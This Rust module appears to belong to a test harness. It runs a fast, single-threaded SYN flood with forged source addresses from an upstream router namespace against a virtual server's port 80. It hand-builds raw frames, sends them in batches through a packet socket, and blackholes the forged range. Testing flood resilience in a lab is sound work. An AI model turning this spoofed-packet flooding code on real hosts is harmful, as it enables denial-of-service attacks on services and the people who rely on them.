//! A SYN flood with forged sources, as fast as one thread makes it, from the upstream router to a virtual server.

use std::io;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context, Result};
use csm_common::net::virtual_mac;
use etherparse::{IpNumber, Ipv4Header, TcpHeader};
use nix::net::if_::if_nametoindex;
use socket2::{Domain, Socket, Type};

use crate::netns::Netns;

/// The forged sources lie in here; the router throws away what is answered to them.
const SOURCES: &str = "10.64.0.0/10";
const FIRST_SOURCE: u32 = 0x0a40_0000;
/// Sources of a flood from everywhere.
pub const EVERYWHERE: u32 = 1 << 22;
/// Of one from a single network with a mask of 24 bits.
pub const ONE_NETWORK: u32 = 1 << 8;
/// Frames in one system call.
const BATCH: usize = 64;
const FRAME: usize = 54;

/// A flood under way; it ends when dropped.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Flood {
    /// Floods port 80 of `target` from `router`'s interface on VLAN 2, with so many sources.
    ///
    /// # Errors
    /// Without CAP_NET_RAW, or of ip(8).
    pub fn start(router: &Netns, group: u8, target: Ipv4Addr, sources: u32) -> Result<Self> {
        router.ip(&[format!("route replace blackhole {SOURCES}")])?;
        let socket = router.within(open)?.context("a packet socket")?;
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = std::thread::Builder::new().name("flood".into()).spawn(move || {
            let mut syns = Syns { group, target, sources, turn: 0 };
            while !stopped.load(Ordering::Relaxed) {
                count.fetch_add(syns.send(&socket), Ordering::Relaxed);
            }
        })?;
        Ok(Self { stop, sent, thread: Some(thread) })
    }

    /// SYNs sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // One that panicked has nothing more to say here.
            let _ended = thread.join();
        }
    }
}

fn open() -> io::Result<OwnedFd> {
    let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
    socket.set_write_timeout(Some(Duration::from_millis(50)))?;
    // SAFETY: all zero is a valid `sockaddr_ll`.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    address.sll_family = u16::try_from(libc::AF_PACKET).map_err(io::Error::other)?;
    address.sll_ifindex = if_nametoindex("eth0")?.cast_signed();
    let length = libc::socklen_t::try_from(size_of_val(&address)).map_err(io::Error::other)?;
    // SAFETY: `address` is a `sockaddr_ll` of that length and lives through the call.
    let bound = unsafe { libc::bind(socket.as_raw_fd(), (&raw const address).cast(), length) };
    if bound < 0 { Err(io::Error::last_os_error()) } else { Ok(socket.into()) }
}

/// The SYNs, one after the other.
struct Syns {
    group: u8,
    target: Ipv4Addr,
    sources: u32,
    turn: u32,
}

impl Syns {
    /// Sends a batch; how many of it went out.
    fn send(&mut self, socket: &OwnedFd) -> u64 {
        let mut frames = [[0; FRAME]; BATCH];
        frames.iter_mut().for_each(|frame| self.write(frame));
        // SAFETY: all zero is a valid `mmsghdr`: no name, no data, no control message.
        let mut messages: [libc::mmsghdr; BATCH] = unsafe { std::mem::zeroed() };
        let mut parts = frames
            .each_mut()
            .map(|frame| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: FRAME });
        for (message, part) in messages.iter_mut().zip(&mut parts) {
            (message.msg_hdr.msg_iov, message.msg_hdr.msg_iovlen) = (part, 1);
        }
        // SAFETY: as many messages as said, each with one part that is as long as said and lives through the call.
        let sent = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), 64, 0) };
        u64::try_from(sent).unwrap_or(0)
    }

    fn write(&mut self, frame: &mut [u8; FRAME]) {
        self.turn = self.turn.wrapping_add(1);
        // In an order that no table of a CPU's likes.
        let source = FIRST_SOURCE | ((self.turn.wrapping_mul(0x9e37_79b1) >> 7) % self.sources);
        let payload = u16::try_from(TcpHeader::MIN_LEN).unwrap_or(20);
        let mut ip = Ipv4Header::new(payload, 64, IpNumber::TCP, source.to_be_bytes(), self.target.octets())
            .expect("a short payload");
        ip.header_checksum = ip.calc_header_checksum();
        #[expect(clippy::cast_possible_truncation, reason = "any port will do")]
        let port = 1024 | (self.turn >> 6) as u16;
        let mut tcp = TcpHeader::new(port, 80, self.turn, 64_000);
        tcp.syn = true;
        tcp.checksum = tcp.calc_checksum_ipv4(&ip, &[]).expect("a short payload");
        frame[..6].copy_from_slice(&virtual_mac(self.group));
        frame[6..12].copy_from_slice(&[2, 0xf1, 0x00, 0xd0, 0, 1]);
        frame[12..14].copy_from_slice(&[8, 0]);
        frame[14..34].copy_from_slice(&ip.to_bytes());
        frame[34..].copy_from_slice(&tcp.to_bytes());
    }
}
